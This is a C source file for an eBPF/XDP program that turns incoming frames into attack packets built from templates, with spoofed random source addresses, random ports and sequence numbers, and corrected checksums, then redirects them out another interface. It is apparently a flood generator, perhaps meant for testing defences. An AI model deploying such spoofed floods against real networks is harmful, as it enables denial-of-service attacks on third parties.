// SPDX-License-Identifier: Apache-2.0
/* Turns each live frame into one of an attack's packets, and gives it to another interface, whose
 * far end receives it as if it came over the cable, or to this kernel's stack. Addresses, ports and
 * numbers are random in the ranges given; checksums are right. */
#include <linux/bpf.h>
#include <linux/in.h>
#include <linux/in6.h>

#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

#include "attack.h"

#define ETHERNET 14

/* Set before the program is loaded. */
const volatile struct attack_template templates[ATTACK_KINDS];
const volatile struct attack_address targets[ATTACK_TARGETS], from,
        from_mask; /* mask: bits drawn */
const volatile __u32 kinds, target_count, port_min, ports, client_port, out;
const volatile __u32 sequence, acknowledged, scan; /* scan: host order; 0: none */
const volatile _Bool ipv6, sequence_given;

__u32 scanned; /* the last sequence number of a scan */

/* One's complement sums in network order: the order of bytes does not matter to them (RFC 1071). */
static __u32 words_of(__u32 word)
{
	return (word >> 16) + (word & 0xffff);
}

static __u16 folded(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (__u16)~sum;
}

static void half_set(__u8 *at, __u16 value)
{
	*(__u16 *)at = value;
}

/* Words in an Ethernet frame's headers are aligned to two bytes only. */
static void word_set(__u8 *at, __u32 value)
{
	half_set(at, (__u16)value);
	half_set(at + 2, (__u16)(value >> 16));
}

/* Writes the addresses and returns their sum. */
static __u32 addresses_write(__u8 *ip, const volatile struct attack_address *to)
{
	unsigned words = ipv6 ? 4 : 1;
	__u8 *at = ip + (ipv6 ? 8 : 12);
	__u32 sum = 0;

	for (unsigned i = 0; i < 4; i++) {
		if (i >= words)
			break;
		__u32 source = from.word[i] | (bpf_get_prandom_u32() & from_mask.word[i]);
		word_set(at + 4 * i, source);
		word_set(at + 4 * (words + i), to->word[i]);
		sum += words_of(source) + words_of(to->word[i]);
	}
	return sum;
}

static __u32 tcp_write(__u8 *l4)
{
	__u32 seq = sequence_given ? sequence : bpf_get_prandom_u32();
	__u32 ack = sequence_given ? acknowledged : bpf_get_prandom_u32();
	if (scan) {
		scanned += scan;
		seq = bpf_htonl(scanned);
	}

	word_set(l4 + 4, seq);
	word_set(l4 + 8, ack);
	return words_of(seq) + words_of(ack);
}

static void layer4_write(__u8 *ip, const volatile struct attack_template *t, __u32 sum)
{
	__u8 *l4 = ip + (ipv6 ? 40 : 20);
	__u32 random = bpf_get_prandom_u32();
	__u16 source = bpf_htons((__u16)(client_port ? client_port : 1024 + random % 64512));
	__u16 port = bpf_htons((__u16)(port_min + bpf_get_prandom_u32() % ports));

	if (t->protocol == IPPROTO_TCP || t->protocol == IPPROTO_UDP) {
		half_set(l4, source);
		half_set(l4 + 2, port);
		sum += t->sum + source + port;
		if (t->protocol == IPPROTO_TCP) {
			sum += tcp_write(l4);
			half_set(l4 + 16, folded(sum));
		} else {
			__u16 folded_sum = folded(sum);
			half_set(l4 + 6, folded_sum ? folded_sum : 0xffff); /* RFC 768 */
		}
	} else if (t->protocol == IPPROTO_ICMP || t->protocol == IPPROTO_ICMPV6) {
		word_set(l4 + 4, random);
		sum = (ipv6 ? sum : 0) + t->sum + words_of(random);
		half_set(l4 + 2, folded(sum));
	} else if (t->first) { /* the checksum is of bytes that never come, too */
		l4 += ipv6 ? 8 : 0;
		half_set(l4, source);
		half_set(l4 + 2, port);
	}
}

SEC("xdp")
int attack(struct xdp_md *ctx)
{
	const volatile struct attack_template *t =
	        &templates[(bpf_get_prandom_u32() % kinds) & (ATTACK_KINDS - 1)];
	const volatile struct attack_address *to =
	        &targets[(bpf_get_prandom_u32() % target_count) & (ATTACK_TARGETS - 1)];
	void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	__u8 *ip = data + ETHERNET, *l4 = ip + (ipv6 ? 40 : 20);

	if (data + 4 * ATTACK_WORDS > end)
		return XDP_ABORTED;
	for (int i = 0; i < ATTACK_WORDS; i++)
		((__u32 *)data)[i] = t->words[i];
	__u32 sum = addresses_write(ip, to);
	__u16 id = (__u16)bpf_get_prandom_u32();
	if (!ipv6) {
		half_set(ip + 4, id);
		half_set(ip + 10, folded(t->ip_sum + sum + id));
	} else if (t->protocol == 0) {
		word_set(l4 + 4, bpf_get_prandom_u32()); /* the fragment header's identification */
	}
	layer4_write(ip, t, sum);
	if (bpf_xdp_adjust_tail(ctx, (int)t->length - 4 * ATTACK_WORDS))
		return XDP_ABORTED;
	return out ? (int)bpf_redirect(out, 0) : XDP_PASS;
}

char terms[] SEC("license") = "Dual BSD/GPL";
